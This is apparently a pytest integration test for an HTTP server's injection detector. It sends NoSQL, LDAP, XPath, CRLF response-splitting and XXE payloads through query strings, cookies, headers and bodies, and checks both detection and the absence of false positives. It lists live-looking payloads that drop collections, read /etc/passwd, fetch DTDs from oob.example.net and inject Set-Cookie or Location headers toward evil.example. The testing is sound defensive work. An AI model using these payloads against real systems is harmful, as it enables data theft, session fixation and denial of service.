"""NoSQL, LDAP, XPath, response splitting and XXE in the shapes another
author writes (test/eval/written/{nosqli,ldapi,xpathi,crlf,xxe}.txt), in
the places an attacker puts them, against a real httpd with the echo CGI
application: a query value or name, the path, a cookie, a header of the
client's own, the Referer, form, JSON, multipart and XML bodies (SOAP, an
uploaded SVG, a UTF-16 document). Each must be recorded with the rule of
its language on the field where it was; their benign look-alikes (update
documents and aggregation stages of a filter API, XSLT that includes a
local stylesheet, an XPath union in a documentation search, a text field
with a second line, a UTF-16 document with a public DTD) must not be
recorded at all.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \\
      /usr/bin/python3 -m pytest -q test/integration/test_inject_shapes.py
"""
import pytest

import lwhttpd
from test_body import FORM, JSON, MP, multipart
from test_body import cgi  # noqa: F401 (the fixture: a server with the echo CGI)
from test_inject import XML, _q, _send


@pytest.fixture
def mpm():
    # Where a field is read does not depend on the MPM: one is enough.
    return "event"


# (marker, place, value, rule id, field prefix)
ATTACKS = [
    # NoSQL: a list operator in a name, a logical operator or an
    # aggregation stage at a value's start, '$' written as \u0024, an
    # operator of an operator, mongo shell administration, a CPU loop
    # after a number
    ("n1", "qname", "user[$nin][]", 100320, "arg_names"),
    ("n2", "qvalue", '{"$or":[{"role":"admin"},{"role":{"$ne":"admin"}}]}',
     100320, "args:"),
    ("n3", "json", '[{"$lookup":{"from":"users","pipeline":[],"as":"u"}}]',
     100320, "body:json:"),
    ("n4", "cvalue", '{"\\u0024ne": "x"}', 100320, "cookie"),
    ("n5", "form", "db.getMongo().getDBNames()", 550310, "body:form:"),
    ("n6", "xhdr", "1; for(var i=0;i<1e9;i++){}; return true", 550310,
     "header:"),
    ("n7", "qvalue", "[$not][$eq]=x", 100320, "args:"),
    ("n8", "path", "db.users.drop()", 550310, "path"),
    ("n9", "xml", '{"status": {"$nin": [null]}}', 100320, "body:xml:"),
    ("n10", "cvalue", "[$exists]=false", 100320, "cookie"),
    ("n13", "qname", "pin[$mod][]", 100320, "arg_names"),
    ("n11", "cvalue", "db.users.drop()", 550310, "cookie"),
    ("n12", "xhdr",
     "' + (function(){ var s = new Date(); while(new Date() - s < 5000); "
     "return 1 })() + '", 550315, "header:"),
    # LDAP: a breakout that leaves the filter open, a transitive
    # extensible match, negation, spaces inside the filter, attribute
    # options
    ("l1", "qvalue", ")(!(", 100300, "args:"),
    ("l2", "cvalue",
     "*)(memberOf:1.2.840.113556.1.4.1941:=cn=Admins,dc=corp,dc=example",
     100300, "cookie"),
    ("l3", "json", "bob)(!(uid=bob))(|(uid=*", 100300, "body:json:"),
    ("l4", "xhdr", "*)(mail;binary=*", 100300, "header:"),
    ("l5", "form", "*) (| (mail = *)", 100300, "body:form:"),
    ("l6", "path", "jdoe)(|(", 100300, "path"),
    ("l7", "cookie", ")(!(=1", 100300, "cookie"),
    ("l8", "xhdr", "jdoe))%00", 550320, "header:"),
    # XPath: the functions of XPath 3 that read the host, a union with
    # other node tests, a blind question in a path segment
    ("x1", "qvalue", "' or unparsed-text('/etc/passwd') or '", 550420,
     "args:"),
    ("x2", "cvalue", "'] | //comment() | //*['", 550420, "cookie"),
    ("x3", "json", "' or environment-variable('PATH') or '", 550420,
     "body:json:"),
    ("x4", "form", "' or available-environment-variables() or '", 550420,
     "body:form:"),
    ("x5", "path", "count(//*)", 550410, "path"),
    ("x6", "xml", "' or doc-available('http://oob.example.net/') or '",
     550420, "body:xml:"),
    ("x7", "qname", "count(//*)", 550410, "arg_names"),
    # Response splitting: header letters percent-encoded, U+560A/U+560D
    # written as JavaScript escapes or as %u, the break in a form body
    ("c1", "target", "/redirect?url=/%0d%0a%53et-Cookie:%20sid=1", 800120,
     "uri"),
    ("c2", "target", "/go?to=%u560d%u560aSet-Cookie:%20a=b", 800120, "uri"),
    ("c3", "cvalue", "x\\u560d\\u560aSet-Cookie: a=b", 800120, "cookie"),
    ("c4", "referer",
     "https://www.example.com/r?next=%0d%0a%4cocation:%20//evil.example/",
     800120, "referer"),
    ("c5", "form", "/\r\nSet-Cookie: sid=evil", 800120, "body:form:"),
    ("c6", "form", "/home\r\nLocation: https://evil.example/", 800120,
     "body:form:"),
    ("c7", "json", "/\r\nSet-Cookie: sid=evil", 800120, "body:json:"),
    ("c8", "mpvalue", "/home\nLocation: //evil.example/", 800120,
     "body:multipart:"),
    ("c9", "target", "/page?id=1%0d%0aLocation:%20www.evil.example", 800120,
     "uri"),
]

# (marker, content type, body, rule id, field prefix): XXE where XML is
# parsed: a SOAP request naming an external DTD, an uploaded SVG whose
# parameter entity fetches a DTD, a spreadsheet part with an external
# entity, XInclude under a prefix of the document's choosing, a document
# in UTF-16 (with its byte order mark), a document pasted into a form
# field without the spaces XML lets it leave out.
XXE = [
    ("e1", XML,
     b'<?xml version="1.0"?><!DOCTYPE soap:Envelope SYSTEM "http://198.51.'
     b'100.4/soap.dtd"><soap:Envelope xmlns:soap="http://schemas.xmlsoap.'
     b'org/soap/envelope/"><soap:Body><GetPrice><Item>1</Item></GetPrice>'
     b'</soap:Body></soap:Envelope>', 300900, "body:xml:!doctype"),
    ("e2", MP, multipart([(b"logo", b'<?xml version="1.0"?><!DOCTYPE svg ['
                           b'<!ENTITY % p SYSTEM "http://oob.example.net/p.'
                           b'dtd"> %p;]><svg xmlns="http://www.w3.org/2000/'
                           b'svg"><text>&x;</text></svg>', b"logo.svg")]),
     300270, "body:multipart:logo.!doctype"),
    ("e3", "application/xml",
     b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE '
     b'sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst xmlns="http://'
     b'schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t>'
     b'</si></sst>', 300270, "body:xml:!doctype"),
    ("e4", "application/xml",
     b'<foo xmlns:inc="http://www.w3.org/2001/XInclude"><inc:include href='
     b'"/etc/passwd" parse="text"/></foo>', 300910, "body:xml:"),
    ("e5", "application/xml; charset=utf-16",
     '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e SYSTEM '
     '"file:///etc/passwd">]><r>&e;</r>'.encode("utf-16"), 300270,
     "body:xml:!doctype"),
    ("e6", FORM,
     b"xml=" + _q('<!DOCTYPE r[<!ENTITY%p SYSTEM"http://oob.example.net/p">'
                  '%p;]><r/>').encode(), 300270, "body:form:xml"),
]

# (place, value): what looks like them and is not
BENIGN = [
    ("json", '{"$set": {"status": "shipped"}}'),
    ("qvalue", '{"$match":{"status":"A"}}'),
    ("qvalue", "how do i use $lookup to join two collections"),
    ("qvalue", "db.collection.find()"),
    ("qvalue", "//a[starts-with(@href,'https')] | //link[@rel='canonical']"),
    ("cvalue", "(see note 1) ("),
    ("qvalue", "*)("),
    ("form", "Engineer\r\nLocation: Berlin\r\nStart: May"),
    ("form", "Engineer\r\nLocation: St. Louis, MO\r\nStart: May"),
    ("form", "Hello,\r\nsee you at 9.\r\nTom"),
    ("json", "Engineer\nLocation: Berlin\nContent-Type: full time"),
    ("mpvalue", "Order 4711\r\nStatus: not delivered\r\nLocation: depot"),
    ("xhdr", "step 1; for (each item) do this"),
    ("qvalue", "doc('books.xml')//title in xquery tutorial"),
    ("qname", "count(//book)"),
]

BENIGN_BODIES = [
    ("application/xslt+xml",
     b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/'
     b'Transform"><xsl:include href="common.xsl"/><xsl:template match="/">'
     b'<xsl:value-of select="title"/></xsl:template></xsl:stylesheet>'),
    ("application/xml; charset=utf-16",
     '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg PUBLIC "-//W3C//'
     'DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
     '<svg xmlns="http://www.w3.org/2000/svg"><title>Logo</title></svg>'
     .encode("utf-16")),
    (JSON, b'{"pipeline": [{"$match": {"status": "A"}}, {"$group": {"_id": '
           b'"$cust_id", "total": {"$sum": "$amount"}}}], "update": {"$set": '
           b'{"seen": true}}}'),
]


def _after(h, marker):
    """A request every version records, sent last: once it is in the log,
    the log holds every request before it."""
    assert _send(h, marker, "qvalue", "'; return true; var x='") in (200, 404)
    assert h.wait_for(lambda r: "t=" + marker in r["uri"]) is not None


def _by_marker(h):
    out = {}
    for r in h.records():
        if "t=" in r["uri"]:
            out[r["uri"].split("t=")[1].split("&")[0]] = r
    return out


def test_new_shapes_recorded_in_their_place(cgi):
    for marker, place, value, _, _ in ATTACKS:
        assert _send(cgi, marker, place, value) in (200, 404)
    for marker, ctype, body, _, _ in XXE:
        assert cgi.post("/cgi/echo?t=" + marker, body, ctype)[0] == 200
    _after(cgi, "zafter")
    recs = _by_marker(cgi)
    missed = []
    for marker, what, _, rid, field in (
            [(a[0], a[1] + " " + repr(a[2]), None, a[3], a[4]) for a in ATTACKS]
            + [(x[0], x[1], None, x[3], x[4]) for x in XXE]):
        rec = recs.get(marker)
        hits = [(r["id"], r["field"]) for r in rec["rules"]] if rec else []
        if not any(i == rid and f.startswith(field) for i, f in hits):
            missed.append((marker, what, rid, field, hits))
        if rec:
            lwhttpd.check_record(rec)
    assert not missed, "\n".join(map(repr, missed))


def test_lookalikes_not_recorded(cgi):
    for i, (place, value) in enumerate(BENIGN):
        assert _send(cgi, "b%d" % i, place, value) in (200, 404)
    for i, (ctype, body) in enumerate(BENIGN_BODIES):
        assert cgi.post("/cgi/echo?t=bb%d" % i, body, ctype)[0] == 200
    _after(cgi, "zafter")
    flagged = [(m, [(x["id"], x["field"]) for x in r["rules"]])
               for m, r in _by_marker(cgi).items()
               if m.startswith("b") and lwhttpd.is_attack(r)]
    assert not flagged, flagged
